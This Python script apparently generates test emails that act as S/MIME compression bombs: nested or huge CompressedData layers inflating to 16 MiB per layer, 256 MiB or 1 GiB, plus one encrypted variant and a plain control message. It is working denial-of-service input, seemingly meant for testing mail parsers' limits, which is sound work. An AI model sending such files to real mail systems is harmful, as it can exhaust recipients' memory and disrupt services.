#!/usr/bin/env python3
# Compression bombs: S/MIME CompressedData (RFC 3274) that inflates far
# past what its message may hold. python3 mkbombs.py OUTDIR [CERT.pem]
# writes into OUTDIR:
#   eight.eml     eight CompressedData layers, one inside the other, each
#                 inflating to 16 MiB and more (about 100 KB in all)
#   deep.eml      twenty small layers, one inside the other
#   huge.eml      one layer that inflates to 1 GiB
#   enc.eml       with CERT: an envelope to CERT (openssl cms) whose
#                 plaintext is a layer that inflates to 256 MiB
#   plain.eml     one small layer around a short text: an ordinary message
import base64
import os
import subprocess
import sys
import zlib

FROM = b'From: alice@example.test\r\nTo: bob@example.test\r\n'
DATE = b'Date: Thu, 01 Jan 2026 00:00:00 +0000\r\n'


def tlv(tag, body):
    n = len(body)
    if n < 128:
        ln = bytes([n])
    else:
        b = n.to_bytes((n.bit_length() + 7) // 8, 'big')
        ln = bytes([0x80 | len(b)]) + b
    return bytes([tag]) + ln + body


def oid(hexs):
    return tlv(0x06, bytes.fromhex(hexs))


def compressed_der(zstream):
    eci = tlv(0x30, oid('2a864886f70d010701') + tlv(0xa0, tlv(0x04, zstream)))
    cd = tlv(0x30, tlv(0x02, b'\x00') +
             tlv(0x30, oid('2a864886f70d0109100308')) + eci)
    return tlv(0x30, oid('2a864886f70d0109100109') + tlv(0xa0, cd))


def deflate_stream(chunks):
    # A zlib stream of the byte strings chunks yields, never all in memory.
    z = zlib.compressobj(9)
    out = [z.compress(c) for c in chunks]
    out.append(z.flush())
    return b''.join(out)


def entity(der):
    b64 = base64.encodebytes(der).replace(b'\n', b'\r\n')
    return (b'Content-Type: application/pkcs7-mime; '
            b'smime-type=compressed-data; name=smime.p7m\r\n'
            b'Content-Transfer-Encoding: base64\r\n\r\n' + b64)


def text(pad_mib):
    # A text/plain entity followed by pad_mib MiB of blank lines.
    yield b'Content-Type: text/plain\r\n\r\nThe bottom of the bomb.\r\n'
    line = b'\r\n' * (512 * 1024)
    for _ in range(pad_mib):
        yield line


def layer(inner, pad_mib):
    # inner (an entity) then pad_mib MiB of blank lines, compressed.
    def chunks():
        yield inner
        line = b'\r\n' * (512 * 1024)
        for _ in range(pad_mib):
            yield line
    return entity(compressed_der(deflate_stream(chunks())))


def message(subject, body):
    return (FROM + b'Subject: ' + subject + b'\r\n' + DATE +
            b'MIME-Version: 1.0\r\n' + body)


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)

    def write(name, data):
        with open(os.path.join(out, name), 'wb') as f:
            f.write(data)

    e = entity(compressed_der(deflate_stream(text(16))))
    for _ in range(7):
        e = layer(e, 16)
    write('eight.eml', message(b'eight layers', e))

    e = entity(compressed_der(deflate_stream(text(0))))
    for _ in range(19):
        e = layer(e, 0)
    write('deep.eml', message(b'twenty layers', e))

    e = entity(compressed_der(deflate_stream(text(1024))))
    write('huge.eml', message(b'one huge layer', e))

    e = entity(compressed_der(deflate_stream(text(0))))
    write('plain.eml', message(b'an ordinary compressed message', e))

    if len(sys.argv) > 2:
        inner = entity(compressed_der(deflate_stream(text(256))))
        env = subprocess.run(['openssl', 'cms', '-encrypt', '-aes-256-cbc',
                              '-binary', sys.argv[2]], input=inner,
                             stdout=subprocess.PIPE, check=True).stdout
        env = env.replace(b'\r\n', b'\n').replace(b'\n', b'\r\n')
        write('enc.eml', FROM + b'Subject: a decrypted layer inflates\r\n' +
              DATE + env)


if __name__ == '__main__':
    main()
